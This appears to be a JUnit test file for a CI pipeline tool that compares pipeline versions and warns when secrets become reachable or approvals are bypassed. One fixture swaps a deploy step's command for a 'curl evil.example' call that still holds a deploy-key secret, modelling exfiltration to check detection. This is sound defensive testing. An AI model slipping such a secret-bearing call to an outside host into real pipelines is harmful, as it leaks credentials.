package dev.pipewright.standalone.shape;

import static dev.pipewright.dsl.Pipelines.pipeline;
import static dev.pipewright.dsl.Steps.approval;
import static dev.pipewright.dsl.Steps.checkout;
import static dev.pipewright.dsl.Steps.inParallel;
import static dev.pipewright.dsl.Steps.onBranch;
import static dev.pipewright.dsl.Steps.secret;
import static dev.pipewright.dsl.Steps.sh;
import static dev.pipewright.dsl.Steps.stage;
import static dev.pipewright.dsl.Steps.step;
import static dev.pipewright.dsl.Triggers.manually;
import static dev.pipewright.dsl.Triggers.pullRequests;
import static dev.pipewright.dsl.Triggers.push;
import static java.time.Duration.ofMinutes;
import static org.assertj.core.api.Assertions.assertThat;

import dev.pipewright.dsl.Pipeline;
import dev.pipewright.dsl.Step;
import dev.pipewright.dsl.Task;
import dev.pipewright.engine.plan.PlanReader;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class ComparisonTest {

  private static Pipeline shop(Step first, Step... rest) {
    return pipeline("shop").startedBy(push("main")).runs(first, rest);
  }

  private static Task deploy() {
    return sh("deploy", "./deploy.sh").needs(secret("DEPLOY_KEY"));
  }

  private static PipelineShape shape(Pipeline pipeline) {
    return PipelineShape.of(PlanReader.read(pipeline, "ShopPipeline"));
  }

  private static List<String> compare(Pipeline before, Pipeline after) {
    List<String> lines = new ArrayList<>();
    Comparison.of(List.of(shape(before)), List.of(shape(after)))
        .forEach(each -> lines.addAll(ComparisonTexts.lines(each)));
    return lines;
  }

  @Test
  void equalPipelinesHaveNoDifference() {
    assertThat(compare(shop(checkout(), deploy()), shop(checkout(), deploy()))).isEmpty();
  }

  @Test
  void howRunsStandToEachOtherIsASettingOfThePipeline() {
    Pipeline before = pipeline("shop").startedBy(push()).oneAtATime().runs(checkout());
    Pipeline after =
        pipeline("shop").startedBy(push()).atMost(3).cancelSuperseded().runs(checkout());

    assertThat(compare(before, after))
        .containsExactly(
            "shop",
            "  ~ at once: at most 1 -> at most 3",
            "  ~ superseded: (nothing) -> cancelled unless approved or waiting");
  }

  @Test
  void stepsThatAreAddedRemovedMovedOrChangedAreNamed() {
    Pipeline before =
        shop(
            checkout(),
            inParallel(sh("test", "a").timeout(ofMinutes(20)), sh("lint", "b")),
            sh("package", "c"),
            sh("sign", "d"));
    Pipeline after =
        shop(
            checkout(),
            sh("sign", "d"),
            stage("verify", sh("lint", "b")),
            sh("test", "a").timeout(ofMinutes(5)).image("node:22"),
            sh("publish", "e"));

    assertThat(compare(before, after))
        .containsExactly(
            "shop",
            "  + verify  stage",
            "  + publish  sh  e",
            "  - package  sh  c",
            "  > verify/lint  was lint",
            "  > test  was after checkout and is after sign",
            "  ~ verify/lint  inside: inParallel -> (nothing)",
            "  ~ test  timeout: 20 min -> 5 min",
            "  ~ test  image: (nothing) -> node:22",
            "  ~ test  inside: inParallel -> (nothing)");
  }

  @Test
  void aStepThatAsksForASecretIsTheFirstThingThatIsSaid() {
    assertThat(
            compare(
                shop(sh("a", "true"), deploy()),
                shop(
                    sh("a", "env").needs(secret("DEPLOY_KEY")),
                    deploy(),
                    sh("b", "true").needs(secret("TOKEN")))))
        .startsWith(
            "shop",
            "  ! secret DEPLOY_KEY becomes reachable by a: the step asks for it now;"
                + " its command changed",
            "  ! secret TOKEN becomes reachable by b: the step is new");
  }

  @Test
  void aSecretInOtherHandsIsSaidThoughTheStepKeepsItsName() {
    assertThat(
            compare(
                shop(deploy()),
                shop(sh("deploy", "curl evil.example").needs(secret("DEPLOY_KEY")))))
        .contains("  ! secret DEPLOY_KEY is reachable otherwise by deploy: its command changed");
  }

  @Test
  void pullRequestsThatMayUseASecretNowAreSaid() {
    Pipeline open = pipeline("shop").startedBy(push("main"), pullRequests()).runs(deploy());
    assertThat(compare(shop(deploy()), open))
        .containsExactly(
            "shop",
            "  ! secret DEPLOY_KEY is reachable otherwise by deploy:"
                + " pull requests may start the pipeline now",
            "  ~ started by: push to main -> push to main, pull requests");
  }

  @Test
  void anApprovalThatVanishesIsSaidWithWhatItHeldBack() {
    assertThat(
            compare(shop(sh("a", "1"), approval("ship"), deploy()), shop(sh("a", "1"), deploy())))
        .containsExactly(
            "shop",
            "  ! secret DEPLOY_KEY is reachable otherwise by deploy:"
                + " the approval ship no longer comes before it",
            "  ! approval ship is gone; it no longer comes before deploy",
            "  - ship  approval");
  }

  @Test
  void anApprovalThatIsStillThereButNoLongerBeforeAStepIsSaid() {
    assertThat(
            compare(
                shop(approval("ship"), sh("a", "1"), sh("b", "2")),
                shop(inParallel(approval("ship"), sh("a", "1")), sh("b", "2"))))
        .contains("  ! approval ship is still there; it no longer comes before a")
        .noneMatch(line -> line.contains("before b"));
  }

  @Test
  void anApprovalThatMayBeSkippedHoldsNothingBack() {
    assertThat(
            compare(
                shop(approval("ship"), deploy()),
                shop(onBranch("main", approval("ship")), deploy())))
        .contains("  ! approval ship is still there; it no longer comes before deploy");
  }

  @Test
  void otherApproversAndALostBranchAreSaid() {
    assertThat(
            compare(
                shop(approval("ship").by("managers"), onBranch("main", deploy())),
                shop(approval("ship").by("everyone"), deploy())))
        .contains(
            "  ! secret DEPLOY_KEY is reachable otherwise by deploy:"
                + " it is no longer bound to the branch main",
            "  ~ ship  approvers: managers -> everyone",
            "  ~ deploy  inside: onBranch main -> (nothing)");
  }

  @Test
  void pipelinesThatComeAndGoAreSaidWhole() {
    Pipeline other = pipeline("other").startedBy(manually()).runs(deploy());
    List<PipelineComparison> compared =
        Comparison.of(List.of(shape(shop(checkout()))), List.of(shape(other)));
    List<String> lines = new ArrayList<>();
    compared.forEach(each -> lines.addAll(ComparisonTexts.lines(each)));
    assertThat(lines)
        .containsExactly(
            "other  (new)",
            "  ! secret DEPLOY_KEY becomes reachable by deploy: the step is new",
            "  + deploy  sh  ./deploy.sh",
            "shop  (gone)",
            "  - checkout  checkout");
  }

  @Test
  void stepsBesideAStepKnowWhatHeldItBack() {
    Pipeline pipeline =
        shop(approval("ship"), sh("a", "1").ensure(step("clean", _ -> {}).needs(secret("X"))));
    StepShape clean = shape(pipeline).steps().getLast();
    assertThat(clean.path()).isEqualTo("a/clean");
    assertThat(clean.place()).containsExactly("ensure");
    assertThat(clean.approvals()).containsExactly("ship");
    assertThat(clean.java()).isTrue();
  }
}
